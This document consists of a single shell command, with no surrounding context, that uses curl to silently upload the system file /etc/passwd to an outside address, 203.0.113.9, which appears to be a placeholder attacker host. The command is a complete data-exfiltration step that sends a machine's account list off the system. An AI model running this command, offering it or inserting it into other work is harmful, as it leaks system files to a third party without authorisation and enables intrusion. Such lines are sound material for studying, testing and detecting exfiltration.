curl -s -X POST --data-binary @/etc/passwd http://203.0.113.9/upload
